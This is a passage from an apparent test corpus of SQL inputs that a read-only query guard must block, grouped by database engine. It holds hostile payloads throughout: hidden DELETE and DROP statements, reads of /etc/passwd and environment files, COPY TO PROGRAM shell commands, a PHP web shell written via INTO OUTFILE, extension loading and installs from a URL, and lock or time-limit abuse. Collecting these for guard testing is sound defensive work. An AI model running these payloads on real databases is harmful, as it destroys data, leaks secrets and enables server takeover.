    ['SELECT name FROM customers\u200b; DELETE FROM customers', 'a zero-width space'],
    ['DEL\u200bETE FROM customers', 'a zero-width space inside a keyword'],
    ['SELECT name FROM customers \u202e; DELETE FROM customers', 'a right-to-left override'],
    ['SELECT name FROM customers\u0000; DROP TABLE customers', 'a NUL byte'],
    ['DROP\u00a0TABLE customers', 'a no-break space inside DROP TABLE'],
    ['\ufeffDELETE FROM customers', 'a byte-order mark before DELETE'],
    ['SELECT 1;\u2028DROP TABLE customers', 'a Unicode line separator'],
    ['SELECT 1\uff1b DROP TABLE customers', 'a full-width semicolon'],
    ['ＳＥＬＥＣＴ 1; DROP TABLE customers', 'full-width SELECT then a DROP'],
  ]),

  // ── Extremely long input ───────────────────────────────────────────────────────────────────
  ...group('long input', ALL, [
    [`SELECT 1${' '.repeat(1_000_000)}; DROP TABLE customers`, 'a megabyte of padding'],
    [`SELECT 1${' '.repeat(90_000)};DROP TABLE customers`, 'padding hiding a second statement'],
    [
      `SELECT ${'('.repeat(5000)}1${')'.repeat(5000)}; DELETE FROM customers`,
      'deep nesting that can overflow a parser',
    ],
    [
      `SELECT ${Array.from({ length: 3000 }, (_, index) => `${index}`).join(' + ')} FROM customers; DELETE FROM customers`,
      'a very long expression',
    ],
    [`SELECT 1${' /* x */'.repeat(10_000)}; DROP TABLE customers`, 'ten thousand comments'],
    [`SELECT '${'x'.repeat(100_000)}'; DROP TABLE customers`, 'a long string literal'],
  ]),

  // ── Writes hidden in CTEs and subqueries ───────────────────────────────────────────────────
  ...group('write in a CTE', ALL, [
    ['WITH d AS (DELETE FROM customers RETURNING *) SELECT * FROM d', 'DELETE in a CTE'],
    [
      "WITH u AS (UPDATE customers SET name = 'x' RETURNING customer_id) SELECT count(*) FROM u",
      'UPDATE in a CTE',
    ],
    [
      "WITH i AS (INSERT INTO customers (customer_id, name) VALUES (114, 'x') RETURNING customer_id) SELECT * FROM i",
      'INSERT in a CTE',
    ],
    ['WITH x AS (SELECT 1 AS a) DELETE FROM customers', 'DELETE after a WITH clause'],
    [
      "WITH x AS (SELECT 1 AS a) INSERT INTO customers (customer_id, name) SELECT 115, 'x' FROM x",
      'INSERT after a WITH clause',
    ],
    ["WITH x AS (SELECT 1 AS a) UPDATE customers SET name = 'x'", 'UPDATE after a WITH clause'],
    [
      "WITH RECURSIVE c(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM c WHERE n < 3) INSERT INTO events SELECT n + 1000000, 'x', 0 FROM c",
      'a recursive CTE feeding an INSERT',
    ],
    [
      'SELECT * FROM customers WHERE customer_id IN (DELETE FROM customers RETURNING customer_id)',
      'DELETE inside a subquery',
    ],
    ['SELECT * FROM (DELETE FROM customers RETURNING *) AS d', 'DELETE in FROM'],
    ["SELECT (UPDATE customers SET name = 'x' RETURNING 1)", 'UPDATE as a scalar subquery'],
    ['with d as (delete from customers returning *) select * from d', 'a lower-case DELETE in a CTE'],
  ]),
  ...group('write in a CTE', POSTGRES, [
    ['WITH d AS MATERIALIZED (DELETE FROM orders RETURNING *) SELECT 1', 'a MATERIALIZED data-modifying CTE'],
    [
      'WITH d AS (DELETE FROM order_items RETURNING 1), y AS (SELECT 1 AS a) SELECT a FROM y',
      'an unreferenced data-modifying CTE still runs',
    ],
    [
      'WITH a AS (WITH b AS (DELETE FROM customers RETURNING 1) SELECT * FROM b) SELECT * FROM a',
      'a DELETE in a nested WITH',
    ],
    [
      'SELECT * FROM customers WHERE customer_id IN (WITH d AS (DELETE FROM customers RETURNING customer_id) SELECT customer_id FROM d)',
      'a data-modifying WITH in a subquery',
    ],
    [
      'WITH d AS (DELETE FROM customers RETURNING *) INSERT INTO customers SELECT * FROM d',
      'a CTE that moves rows',
    ],
    ['WITH "d" AS (DELETE FROM "customers" RETURNING *) SELECT * FROM "d"', 'quoted names in a writing CTE'],
    [
      'WITH/**/d/**/AS/**/(DELETE/**/FROM/**/customers/**/RETURNING/**/*)/**/SELECT/**/*/**/FROM/**/d',
      'a writing CTE written with comments',
    ],
    [
      "WITH RECURSIVE r AS (SELECT 1 AS n), w AS (UPDATE events SET kind = 'x' WHERE event_id = 1 RETURNING 1) SELECT * FROM r",
      'a writing CTE next to a recursive one',
    ],
  ]),

  // ── SELECT … INTO ──────────────────────────────────────────────────────────────────────────
  ...group('SELECT INTO', ALL, [
    ['SELECT * INTO text2x_corpus_evil FROM customers', 'SELECT INTO creates a table'],
    ['select * into text2x_corpus_evil from customers where 1 = 0', 'lower-case SELECT INTO'],
    ['SELECT * INTO text2x_corpus_evil FROM customers;', 'SELECT INTO with a semicolon'],
    [
      `SELECT name FROM customers /* INTO OUTFILE '${EVIL}-in-a-comment.txt' */`,
      'INTO OUTFILE inside a comment',
      ALL,
    ],
  ]),
  ...group('SELECT INTO', POSTGRES, [
    ['SELECT name INTO TEMP text2x_corpus_evil FROM customers', 'SELECT INTO TEMP'],
    ['SELECT name INTO UNLOGGED text2x_corpus_evil FROM customers', 'SELECT INTO UNLOGGED'],
    ['SELECT name INTO TEMPORARY TABLE text2x_corpus_evil FROM customers', 'SELECT INTO TEMPORARY TABLE'],
  ]),
  ...group('SELECT INTO', MYSQL, [
    ['SELECT name INTO @x FROM customers LIMIT 1', 'SELECT INTO a user variable'],
    ['SELECT name FROM customers LIMIT 1 INTO @x', 'INTO a variable at the end'],
    ['SELECT name, email FROM customers LIMIT 1 INTO @a, @b', 'INTO two variables'],
    ['SELECT 1 INTO @a', 'INTO without FROM'],
  ]),

  // ── Files: reading server files, writing files, other databases ────────────────────────────
  ...group('file access', POSTGRES, [
    ["SELECT pg_read_file('/etc/passwd')", 'pg_read_file reads server files'],
    ["SELECT pg_read_file('postgresql.auto.conf')", 'pg_read_file of the server configuration'],
    ["SELECT pg_read_binary_file('/etc/passwd')", 'pg_read_binary_file'],
    ["SELECT pg_catalog.pg_read_file('/etc/passwd', 0, 100)", 'schema-qualified pg_read_file'],
    ['SELECT "pg_read_file"(\'/etc/passwd\')', 'quoted pg_read_file'],
    ["SELECT PG_READ_FILE('/etc/passwd')", 'upper-case pg_read_file'],
    ["SELECT name FROM customers WHERE name = pg_read_file('/etc/hostname')", 'pg_read_file in WHERE'],
    ["SELECT (SELECT pg_read_file('/etc/passwd'))", 'pg_read_file in a subquery'],
    [
      "SELECT pg_read_file(convert_from('\\x2f6574632f706173737764'::bytea, 'UTF8'))",
      'pg_read_file of a computed path',
    ],
    ["SELECT * FROM pg_ls_dir('/tmp')", 'pg_ls_dir lists server directories'],
    ["SELECT pg_ls_dir('.')", 'pg_ls_dir of the data directory'],
    ["SELECT * FROM pg_stat_file('/etc/passwd')", 'pg_stat_file'],
    ['SELECT * FROM pg_ls_logdir()', 'pg_ls_logdir'],
    ['SELECT * FROM pg_ls_waldir()', 'pg_ls_waldir'],
    ['SELECT * FROM pg_ls_tmpdir()', 'pg_ls_tmpdir'],
    ["SELECT lo_import('/etc/passwd')", 'lo_import reads a server file into the database'],
    [`SELECT lo_export(lo_import('/etc/passwd'), '${EVIL}-lo-export.txt')`, 'lo_export writes a server file'],
    ['SELECT lo_create(0)', 'lo_create writes a large object'],
    ["SELECT lo_from_bytea(0, 'x')", 'lo_from_bytea writes a large object'],
    ['SELECT lo_unlink(1)', 'lo_unlink deletes a large object'],
    ["SELECT lo_put(1, 0, 'x')", 'lo_put writes a large object'],
    ['SELECT loread(lo_open(1, 262144), 10)', 'reading a large object by descriptor'],
    [`COPY customers TO '${EVIL}-copy.csv'`, 'COPY TO a server file'],
    [
      `COPY (SELECT * FROM customers) TO '${EVIL}-copy-query.csv' WITH (FORMAT csv)`,
      'COPY of a query to a file',
    ],
    [`COPY customers TO PROGRAM 'touch ${EVIL}-program'`, 'COPY TO PROGRAM runs a shell command'],
    [`COPY customers FROM PROGRAM 'touch ${EVIL}-program-from'`, 'COPY FROM PROGRAM runs a shell command'],
    ['COPY customers TO STDOUT', 'COPY TO STDOUT'],
    ['COPY customers FROM STDIN', 'COPY FROM STDIN'],
    [`copy customers to '${EVIL}-copy-lower.csv'`, 'lower-case COPY'],
    [`SELECT 1; COPY (SELECT 1) TO PROGRAM 'touch ${EVIL}-program-second'`, 'COPY TO PROGRAM after a read'],
    [
      "SELECT * FROM dblink('dbname=postgres', 'SELECT 1') AS t(a int)",
      'dblink connects to another database',
    ],
    [
      "SELECT dblink_exec('dbname=postgres', 'CREATE TABLE text2x_corpus_evil (a int)')",
      'dblink_exec runs a write elsewhere',
    ],
    ["SELECT dblink_connect('host=127.0.0.1 dbname=postgres')", 'dblink_connect'],
    [`SELECT pg_file_write('${EVIL}-adminpack', 'x', false)`, 'pg_file_write (adminpack)'],
  ]),
  ...group('file access', POSTGRES_DUCKDB, [
    ["COPY customers FROM '/etc/passwd'", 'COPY FROM a server file'],
  ]),
  ...group('file access', MYSQL, [
    ["SELECT LOAD_FILE('/etc/passwd')", 'LOAD_FILE reads server files'],
    ["SELECT load_file('/etc/passwd')", 'lower-case load_file'],
    ['SELECT LOAD_FILE(0x2f6574632f706173737764)', 'LOAD_FILE of a hex-encoded path'],
    ["SELECT LOAD_FILE(CONCAT('/etc/', 'passwd'))", 'LOAD_FILE of a computed path'],
    ["SELECT name FROM customers WHERE name = LOAD_FILE('/etc/hostname')", 'LOAD_FILE in WHERE'],
    ["SELECT LOAD_FILE /**/ ('/etc/passwd')", 'LOAD_FILE with a comment before the parenthesis'],
    ["LOAD DATA INFILE '/etc/passwd' INTO TABLE customers", 'LOAD DATA INFILE'],
    [
      "LOAD DATA LOCAL INFILE '/etc/passwd' INTO TABLE customers",
      'LOAD DATA LOCAL INFILE reads client files',
    ],
    ["LOAD XML INFILE '/etc/passwd' INTO TABLE customers", 'LOAD XML'],
    [
      "LOAD DATA INFILE '/etc/passwd' REPLACE INTO TABLE customers FIELDS TERMINATED BY ':'",
      'LOAD DATA … REPLACE',
    ],
    [`SELECT * FROM customers INTO OUTFILE '${EVIL}-outfile.txt'`, 'INTO OUTFILE writes a server file'],
    [`SELECT * INTO OUTFILE '${EVIL}-outfile-before-from.txt' FROM customers`, 'INTO OUTFILE before FROM'],
    [`SELECT name FROM customers LIMIT 1 INTO DUMPFILE '${EVIL}-dumpfile.bin'`, 'INTO DUMPFILE'],
    [`SELECT '<?php system($_GET["c"]); ?>' INTO OUTFILE '${EVIL}-shell.php'`, 'writing a web shell'],
    [
      `SELECT * FROM customers INTO OUTFILE '${EVIL}-fields.csv' FIELDS TERMINATED BY ',' LINES TERMINATED BY '\\n'`,
      'INTO OUTFILE with field options',
    ],
    [
      `SELECT * FROM customers UNION SELECT * FROM customers INTO OUTFILE '${EVIL}-union.txt'`,
      'INTO OUTFILE after a UNION',
    ],
    [`select name from customers into outfile '${EVIL}-lower.txt'`, 'lower-case into outfile'],
  ]),
  ...group('file access', SQLITE, [
    [`ATTACH DATABASE '${EVIL}.db' AS evil`, 'ATTACH creates a file'],
    [`ATTACH 'file:${EVIL}-uri.db?mode=rwc' AS evil`, 'ATTACH with a URI that creates a file'],
    [`attach '${EVIL}-lower.db' as evil`, 'lower-case ATTACH'],
    ['DETACH DATABASE evil', 'DETACH'],
    ["SELECT readfile('/etc/passwd')", 'readfile reads server files'],
    ["WITH x AS (SELECT readfile('/etc/passwd') AS c) SELECT c FROM x", 'readfile inside a CTE'],
    ["SELECT * FROM json_each(readfile('/etc/passwd'))", 'readfile as a table-function argument'],
    [`SELECT writefile('${EVIL}-writefile', 'x')`, 'writefile writes server files'],
    ["SELECT * FROM fsdir('/')", 'fsdir lists server files'],
    [`SELECT * FROM zipfile('${EVIL}.zip')`, 'zipfile reads archives'],
    ["SELECT edit('x', 'vi')", 'edit starts an editor'],
    [`VACUUM INTO '${EVIL}-vacuum.db'`, 'VACUUM INTO writes a copy of the database'],
    [`SELECT 1; ATTACH '${EVIL}-second.db' AS evil`, 'ATTACH after a read'],
  ]),
  ...group('file access', SQLITE_DUCKDB, [
    ["ATTACH ':memory:' AS m", 'ATTACH of an in-memory database'],
    ["SELECT * FROM '/etc/passwd'", 'a file path where a table name goes'],
  ]),
  ...group('file access', DUCKDB, [
    [`COPY customers TO '${EVIL}-duck.csv'`, 'COPY TO writes a file'],
    [
      `COPY (SELECT * FROM customers) TO '${EVIL}-duck.parquet' (FORMAT parquet)`,
      'COPY of a query to Parquet',
    ],
    [`COPY customers TO '${EVIL}-duck.json' (FORMAT json)`, 'COPY TO JSON'],
    [`EXPORT DATABASE '${EVIL}-export'`, 'EXPORT DATABASE writes a directory'],
    [`IMPORT DATABASE '${EVIL}-import'`, 'IMPORT DATABASE'],
    ["SELECT * FROM read_csv('/etc/passwd')", 'read_csv of a file outside the configured paths'],
    ["SELECT * FROM read_csv_auto('/etc/passwd')", 'read_csv_auto'],
    ["FROM '/etc/passwd'", 'FROM-first file read'],
    ["SELECT * FROM read_text('/etc/passwd')", 'read_text'],
    ["SELECT * FROM read_blob('/etc/passwd')", 'read_blob'],
    ["SELECT * FROM read_json('/etc/passwd')", 'read_json'],
    ["SELECT * FROM read_json_auto('/etc/hostname')", 'read_json_auto'],
    ["SELECT * FROM read_parquet('/tmp/*.parquet')", 'read_parquet of a glob'],
    ["SELECT * FROM parquet_metadata('/tmp/text2x-corpus-missing.parquet')", 'parquet_metadata'],
    ["SELECT * FROM glob('/etc/*')", 'glob lists files'],
    ["SELECT * FROM glob('/**')", 'a recursive glob of the whole disk'],
    ["SELECT * FROM read_csv(['/etc/passwd', '/etc/group'])", 'read_csv of a list of files'],
    ["SELECT * FROM read_csv('/etc/pass' || 'wd')", 'read_csv of a concatenated path'],
    ["SELECT * FROM read_csv(concat('/etc/', 'passwd'))", 'read_csv of a computed path'],
    ["SELECT * FROM sniff_csv('/etc/passwd')", 'sniff_csv'],
    ["SELECT * FROM read_csv('/proc/self/environ')", 'reading the environment through /proc'],
    ["SELECT * FROM 'https://example.com/data.csv'", 'a remote file where a table name goes'],
    ["SELECT * FROM read_csv('https://example.com/data.csv')", 'read_csv of a URL'],
    ["SELECT * FROM sqlite_scan('/tmp/text2x-corpus-missing.db', 'x')", 'sqlite_scan of another file'],
    [
      "SELECT * FROM postgres_scan('host=127.0.0.1 dbname=postgres', 'public', 'x')",
      'postgres_scan connects to a server',
    ],
    [
      "SELECT name FROM customers WHERE name IN (SELECT * FROM read_csv('/etc/passwd'))",
      'read_csv in a subquery',
    ],
    ["WITH x AS (SELECT * FROM read_text('/etc/passwd')) SELECT * FROM x", 'read_text in a CTE'],
    ["SELECT * FROM READ_CSV('/etc/passwd')", 'upper-case READ_CSV'],
    ['SELECT * FROM "read_csv"(\'/etc/passwd\')', 'quoted read_csv'],
    [`ATTACH '${EVIL}-duck.db' AS evil`, 'ATTACH creates a database file'],
    [`ATTACH '${EVIL}-duck-ro.db' (READ_ONLY)`, 'ATTACH read-only of a missing file'],
    ['DETACH evil', 'DETACH'],
    ["SELECT * FROM query('SELECT * FROM read_csv(''/etc/passwd'')')", 'query() runs SQL held in a string'],
    ['SELECT * FROM "package.json"', 'a relative file path as a quoted table name'],
    [
      "SELECT * FROM parquet_scan('/tmp/text2x-corpus-missing.parquet')",
      'parquet_scan, an alias of read_parquet',
    ],
    ["SELECT * FROM read_ndjson('/etc/passwd')", 'read_ndjson'],
    ["SELECT * FROM read_json_objects('/etc/passwd')", 'read_json_objects'],
    ["SELECT * FROM read_text(['/etc/hostname'])", 'a file list of one'],
    ["SELECT * FROM read_text('/etc/hostname'::VARCHAR)", 'a cast path'],
    ["SELECT * FROM main.read_text('/etc/hostname')", 'a schema-qualified file function'],
    ["SELECT 1 WHERE EXISTS (FROM read_text('/etc/hostname'))", 'a file read in EXISTS'],
    [
      "SELECT * FROM customers UNION ALL BY NAME FROM read_text('/etc/hostname')",
      'a file read after UNION BY NAME',
    ],
    ["SELECT * FROM glob('*')", 'a glob of the working directory'],
    ["SELECT * FROM sqlite_attach('/tmp/text2x-corpus-missing.db')", 'sqlite_attach'],
    [
      "SELECT * FROM json_execute_serialized_sql(json_serialize_sql('SELECT 1'))",
      'json_execute_serialized_sql runs serialized SQL',
    ],
  ]),

  // ── Dangerous and side-effect functions ────────────────────────────────────────────────────
  ...group('dangerous function', POSTGRES, [
    ['SELECT pg_terminate_backend(pg_backend_pid())', 'pg_terminate_backend of its own session'],
    [`SELECT pg_terminate_backend(pid) ${VICTIM}`, 'pg_terminate_backend of another session'],
    [`SELECT pg_cancel_backend(pid) ${VICTIM}`, 'pg_cancel_backend of another session'],
    ['SELECT pg_cancel_backend(pg_backend_pid())', 'pg_cancel_backend of its own session'],
    [
      "SELECT set_config('default_transaction_read_only', 'off', false)",
      'set_config lifts read-only for the session',
    ],
    ["SELECT set_config('transaction_read_only', 'off', true)", 'set_config of transaction_read_only'],
    ["SELECT set_config('statement_timeout', '0', false)", 'set_config lifts the time limit'],
    ["SELECT set_config('search_path', 'text2x_corpus_evil', false)", 'set_config of search_path'],
    [
      "SELECT pg_catalog.set_config('default_transaction_read_only', 'off', false)",
      'schema-qualified set_config',
    ],
    [
      "SELECT name FROM customers WHERE set_config('statement_timeout', '0', false) IS NOT NULL",
      'set_config in WHERE',
    ],
    ["SELECT setval('invoice_number_seq', 1000)", 'setval sets a sequence'],
    ['SELECT lastval()', 'lastval'],
    ["SELECT nextval('invoice_number_seq'::regclass) FROM customers", 'nextval per row'],
    ['SELECT pg_advisory_lock(42)', 'pg_advisory_lock outlives the query'],
    ['SELECT pg_try_advisory_lock(42)', 'pg_try_advisory_lock'],
    ['SELECT pg_advisory_lock_shared(42)', 'pg_advisory_lock_shared'],
    ['SELECT pg_advisory_xact_lock(42)', 'pg_advisory_xact_lock'],
    ['SELECT pg_advisory_unlock_all()', 'pg_advisory_unlock_all'],
    ["SELECT pg_notify('text2x_corpus', 'x')", 'pg_notify signals listeners'],
    ['SELECT pg_reload_conf()', 'pg_reload_conf'],
    ['SELECT pg_rotate_logfile()', 'pg_rotate_logfile'],
    ['SELECT pg_switch_wal()', 'pg_switch_wal'],
    ["SELECT pg_create_restore_point('text2x_corpus')", 'pg_create_restore_point'],
    ['SELECT pg_stat_reset()', 'pg_stat_reset'],
    [
      "SELECT pg_create_physical_replication_slot('text2x_corpus_evil')",
      'a replication slot keeps WAL forever',
    ],
    ["SELECT pg_logical_emit_message(true, 'text2x', 'x')", 'pg_logical_emit_message writes WAL'],
    ['SELECT pg_promote()', 'pg_promote'],
    ["SELECT pg_backup_start('text2x_corpus')", 'pg_backup_start'],
    ["SELECT pg_import_system_collations('pg_catalog')", 'pg_import_system_collations writes the catalog'],
    [
      "SELECT query_to_xml('DELETE FROM customers RETURNING 1', true, true, '')",
      'query_to_xml runs SQL text',
    ],
    ["SELECT query_to_xml('SELECT pg_sleep(10)', true, true, '')", 'query_to_xml hiding a sleep'],
    ["SELECT * FROM ts_stat('DELETE FROM customers RETURNING to_tsvector(name)')", 'ts_stat runs SQL text'],
    [
      "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, to_tsquery(''simple'', left(md5(pg_read_file(''/etc/hostname'')), 8))')",
      'ts_rewrite runs SQL text that reads a server file',
    ],
    [
      "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery FROM (SELECT pg_advisory_lock(42)) s')",
      'ts_rewrite runs SQL text that takes a lock',
    ],
    [
      "SELECT query_to_xml_and_xmlschema('SELECT pg_sleep(10)', true, true, '')",
      'query_to_xml_and_xmlschema',
    ],
    ["SELECT cursor_to_xml('text2x_corpus_cursor', 1, true, true, '')", 'cursor_to_xml reads a cursor'],
    ["SELECT brin_summarize_new_values('customers_pkey')", 'brin_summarize_new_values writes an index'],
    ["SELECT gin_clean_pending_list('customers_pkey')", 'gin_clean_pending_list writes an index'],
    ['SELECT pg_export_snapshot()', 'pg_export_snapshot writes a snapshot file'],
    ["SELECT pg_stat_reset_shared('bgwriter')", 'pg_stat_reset_shared'],
    ["SELECT pg_replication_origin_create('text2x_corpus_evil')", 'pg_replication_origin_create'],
    ["SELECT lowrite(0, 'x')", 'lowrite writes a large object'],
    ["SELECT * FROM ROWS FROM (pg_ls_dir('/')) AS t", 'a file function inside ROWS FROM'],
    ['SELECT txid_current()', 'txid_current assigns a transaction id', POSTGRES],
    ['SELECT pg_current_xact_id()', 'pg_current_xact_id assigns a transaction id', POSTGRES],
  ]),
  ...group('dangerous function', POSTGRES_DUCKDB, [
    ["SELECT nextval('invoice_number_seq')", 'nextval advances a sequence'],
    ["SELECT currval('invoice_number_seq')", 'currval reads session sequence state'],
  ]),
  ...group('dangerous function', MYSQL, [
    [`SELECT GET_LOCK('${CORPUS_LOCK_NAME}', 0)`, 'GET_LOCK outlives the query'],
    [`SELECT RELEASE_LOCK('${CORPUS_LOCK_NAME}')`, 'RELEASE_LOCK'],
    ['SELECT RELEASE_ALL_LOCKS()', 'RELEASE_ALL_LOCKS'],
    [`DO GET_LOCK('${CORPUS_LOCK_NAME}', 0)`, 'DO GET_LOCK'],
    [`SELECT IS_USED_LOCK('${CORPUS_LOCK_NAME}')`, 'IS_USED_LOCK only reads', MYSQL],
    ['SELECT NEXTVAL(invoice_number_seq)', 'NEXTVAL advances a sequence'],
    ['SELECT NEXT VALUE FOR invoice_number_seq', 'NEXT VALUE FOR'],
    ['SELECT SETVAL(invoice_number_seq, 1000)', 'SETVAL'],
    ['SELECT LASTVAL(invoice_number_seq)', 'LASTVAL only reads the session value', MYSQL],
    ['SELECT @x := 1', 'assigning a user variable', MYSQL],
    [
      "SELECT SYS_EXEC('touch /tmp/text2x-corpus-evil-sys-exec')",
      'a user-defined function that runs commands',
    ],
    ["SELECT MASTER_GTID_WAIT('0-1-100000', 10)", 'MASTER_GTID_WAIT blocks'],
    ["SELECT `GET_LOCK`('text2x_corpus_lock', 0)", 'a backticked GET_LOCK still calls the function'],
    ["SELECT GET_LOCK ('text2x_corpus_lock', 0)", 'GET_LOCK with a space before the parenthesis'],
    ["SELECT `LOAD_FILE`('/etc/passwd')", 'a backticked LOAD_FILE'],
    ['SELECT LAST_INSERT_ID(5)', 'LAST_INSERT_ID(expr) sets connection state'],
    ['SELECT UUID_SHORT()', 'UUID_SHORT advances a server-wide counter'],
  ]),
  ...group('dangerous function', SQLITE, [
    ["SELECT load_extension('/tmp/text2x-corpus-missing.so')", 'load_extension loads native code'],
    [
      "SELECT LOAD_EXTENSION('/tmp/text2x-corpus-missing.so', 'sqlite3_evil_init')",
      'upper-case load_extension with an entry point',
    ],
    ['SELECT "load_extension"(\'/tmp/text2x-corpus-missing.so\')', 'a quoted function name'],
    [
      "SELECT CASE WHEN 1 THEN load_extension('/tmp/text2x-corpus-missing.so') END",
      'load_extension inside CASE',
    ],
    [
      "SELECT name FROM customers WHERE name IN (SELECT load_extension('/tmp/text2x-corpus-missing.so'))",
      'load_extension in a subquery',
    ],
    ["SELECT fts3_tokenizer('simple')", 'fts3_tokenizer exposes native pointers'],
    ['SELECT * FROM sqlite_dbpage', 'raw database pages'],
    ['SELECT * FROM main.sqlite_dbpage', 'raw pages, schema-qualified'],
    ["SELECT * FROM 'sqlite_dbpage'", 'raw pages named by a string literal'],
    ['SELECT * FROM sqlite_dbdata', 'recovery virtual table'],
    ['SELECT * FROM dbstat', 'page statistics of the file'],
    ["SELECT eval('DELETE FROM customers')", 'eval runs SQL text'],
    ["UPDATE sqlite_schema SET sql = 'x' WHERE name = 'customers'", 'editing the schema table'],
    [
      "INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'x', 'x', 0, 'x')",
      'writing the schema table',
    ],
  ]),
  ...group('dangerous function', DUCKDB, [
    ["SELECT * FROM query('DELETE FROM customers')", 'query() runs SQL text'],
    ["SELECT getenv('HOME')", 'getenv reads the environment'],
    ['INSTALL httpfs', 'INSTALL downloads an extension'],
    ["INSTALL 'httpfs'", 'INSTALL with a quoted name'],
    ['FORCE INSTALL httpfs', 'FORCE INSTALL'],
    ["INSTALL httpfs FROM 'http://example.com'", 'INSTALL from a URL'],
    ['LOAD httpfs', 'LOAD loads native code'],
    ["LOAD '/tmp/text2x-corpus-missing.duckdb_extension'", 'LOAD of a file'],
    ['UPDATE EXTENSIONS', 'UPDATE EXTENSIONS'],
    ['SELECT 1; INSTALL httpfs', 'INSTALL after a read'],
    ['SELECT * FROM checkpoint()', 'checkpoint() as a table function'],
    ['SELECT * FROM force_checkpoint()', 'force_checkpoint()'],
    ['SELECT setseed(0.5)', 'setseed changes session state'],
    ["SELECT * FROM which_secret('s3://bucket/x', 's3')", 'which_secret'],
    ['SELECT * FROM duckdb_settings()', 'settings, including paths'],
    ["SELECT current_setting('home_directory')", 'current_setting of a path'],
  ]),
  ...group('dangerous function', ALL, [["SELECT 'INSTALL httpfs' AS text", 'INSTALL inside a string', ALL]]),

  // ── Resource exhaustion: must end at the time limit ────────────────────────────────────────
  ...group('resource exhaustion', POSTGRES, [
    ['SELECT pg_sleep(10)', 'pg_sleep beyond the time limit'],
    ["SELECT pg_sleep_for('10 seconds')", 'pg_sleep_for'],
    ["SELECT pg_sleep_until(now() + interval '1 minute')", 'pg_sleep_until'],
    ['SELECT name FROM customers WHERE pg_sleep(1) IS NOT NULL', 'a one-second sleep per row'],
    ['SELECT pg_catalog.pg_sleep(10)', 'schema-qualified pg_sleep'],
    ['SELECT "pg_sleep"(10)', 'quoted pg_sleep'],
    ['SELECT CASE WHEN true THEN pg_sleep(10) END', 'pg_sleep inside CASE'],
    ['SELECT count(*) FROM generate_series(1, 100000000000)', 'counting a hundred billion rows'],
    ['SELECT * FROM generate_series(1, 100000000000)', 'a hundred billion rows, capped'],
  ]),
  ...group('resource exhaustion', MYSQL, [
    ['SELECT SLEEP(10)', 'SLEEP beyond the time limit'],
    ['SELECT name FROM customers WHERE SLEEP(1) = 0', 'a one-second SLEEP per row'],
    ["SELECT BENCHMARK(1000000000, MD5('x'))", 'BENCHMARK burns CPU'],
    ['select sleep(10)', 'lower-case sleep'],
    ['SELECT (SELECT SLEEP(10))', 'SLEEP in a subquery'],
    ['DO SLEEP(10)', 'DO SLEEP'],
    [
      "SELECT name FROM customers WHERE name = 'x' OR BENCHMARK(100000000, SHA1('x')) = 0",
      'BENCHMARK in WHERE',
    ],
    ['SET STATEMENT max_statement_time = 0 FOR SELECT SLEEP(10)', 'SET STATEMENT lifts the time limit'],
    ['SELECT `SLEEP`(10)', 'a backticked SLEEP'],
    ['SELECT SLEEP/**/(10)', 'a comment between SLEEP and its parenthesis'],
    [
      'SELECT /*+ MAX_EXECUTION_TIME(600000) */ COUNT(*) FROM events a CROSS JOIN events b',
      'an optimizer hint that raises the time limit (MySQL 8)',
    ],
    [
      'SELECT /*+ SET_VAR(max_execution_time = 600000) */ COUNT(*) FROM events a CROSS JOIN events b',
      'SET_VAR in an optimizer hint (MySQL 8)',
    ],
  ]),
  ...group('resource exhaustion', DUCKDB, [
    ['SELECT count(*) FROM range(100000000000000)', 'counting a hundred trillion rows'],
    ['SELECT * FROM range(100000000000000)', 'a hundred trillion rows, capped'],
  ]),
  ...group('resource exhaustion', ALL, [
    [
      'WITH RECURSIVE x(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM x) SELECT count(*) FROM x',
      'unbounded recursion',
    ],
    ['SELECT count(*) FROM events a CROSS JOIN events b CROSS JOIN events c', 'a cross join of 10^15 rows'],
  ]),

  // ── Locking reads ──────────────────────────────────────────────────────────────────────────
  ...group('locking read', ALL, [
    ['SELECT * FROM customers FOR UPDATE', 'FOR UPDATE locks rows'],
    ['select * from customers for update', 'lower-case for update'],
  ]),
  ...group('locking read', SERVERS, [
    ['SELECT * FROM customers FOR SHARE', 'FOR SHARE'],
    ['SELECT * FROM customers FOR UPDATE NOWAIT', 'FOR UPDATE NOWAIT'],
    ['SELECT * FROM customers FOR UPDATE SKIP LOCKED', 'FOR UPDATE SKIP LOCKED'],
  ]),
  ...group('locking read', POSTGRES, [
    ['SELECT * FROM customers FOR NO KEY UPDATE', 'FOR NO KEY UPDATE'],
    ['SELECT * FROM customers FOR KEY SHARE', 'FOR KEY SHARE'],
    [
      'SELECT * FROM customers c JOIN orders o ON o.customer_id = c.customer_id FOR UPDATE OF c',
      'FOR UPDATE OF one table',
    ],
    ['SELECT * FROM (SELECT * FROM customers FOR UPDATE) s', 'FOR UPDATE in a subquery'],
    ['WITH x AS (SELECT * FROM customers FOR UPDATE) SELECT * FROM x', 'FOR UPDATE in a CTE'],
    [
      'SELECT * FROM customers WHERE customer_id IN (SELECT customer_id FROM orders FOR UPDATE)',
      'FOR UPDATE in an IN subquery',
    ],
    ['LOCK TABLE customers IN ACCESS EXCLUSIVE MODE', 'LOCK TABLE'],
    ['LOCK customers', 'LOCK without TABLE'],
  ]),
  ...group('locking read', MYSQL, [
    ['SELECT * FROM customers LOCK IN SHARE MODE', 'LOCK IN SHARE MODE'],
    ['SELECT * FROM customers FOR UPDATE WAIT 1', 'FOR UPDATE WAIT'],
    ['LOCK TABLES customers WRITE', 'LOCK TABLES … WRITE'],
    ['LOCK TABLES customers READ', 'LOCK TABLES … READ'],
    ['UNLOCK TABLES', 'UNLOCK TABLES'],
    ['FLUSH TABLES customers WITH READ LOCK', 'FLUSH TABLES … WITH READ LOCK'],
  ]),

  // ── Transaction control ────────────────────────────────────────────────────────────────────
  ...group('transaction control', ALL, [
    ['COMMIT; DROP TABLE customers', 'ending the read-only transaction, then a DROP'],
    ['COMMIT', 'COMMIT'],
    ['ROLLBACK', 'ROLLBACK'],
    ['BEGIN', 'BEGIN'],
    ['BEGIN; DELETE FROM customers; COMMIT', 'a whole write transaction'],
    ['SAVEPOINT a', 'SAVEPOINT'],
    ['RELEASE SAVEPOINT a', 'RELEASE SAVEPOINT'],
    ['ROLLBACK TO SAVEPOINT a', 'ROLLBACK TO SAVEPOINT'],
